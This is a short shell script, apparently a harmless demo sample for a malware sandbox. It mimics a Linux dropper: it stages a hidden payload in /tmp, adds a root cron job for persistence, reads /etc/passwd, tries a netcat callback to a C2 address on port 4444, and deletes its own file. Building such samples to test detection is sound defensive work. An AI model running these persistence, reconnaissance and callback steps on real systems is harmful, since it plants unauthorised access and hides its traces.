#!/bin/sh
# AASEE demo sample: harmless, but shaped like a small Linux dropper. It stages a payload,
# persists it, looks around, tries to phone home, then removes its own file.
payload=/tmp/.cache-update
echo '#!/bin/sh' > "$payload"
echo 'echo "payload ran as $(id -un) on $(hostname)"' >> "$payload"
chmod 755 "$payload"
mkdir -p /etc/cron.d
echo "*/5 * * * * root $payload" > /etc/cron.d/cache-update
cat /etc/passwd > /dev/null
uname -a
"$payload"
mv "$payload" /tmp/.cache-update.bak
# Phone home: the sandbox network reaches nothing, so this fails after a short wait.
timeout 3 busybox nc 203.0.113.50 4444 < /dev/null 2>/dev/null || echo "c2 unreachable"
rm -f "$0"
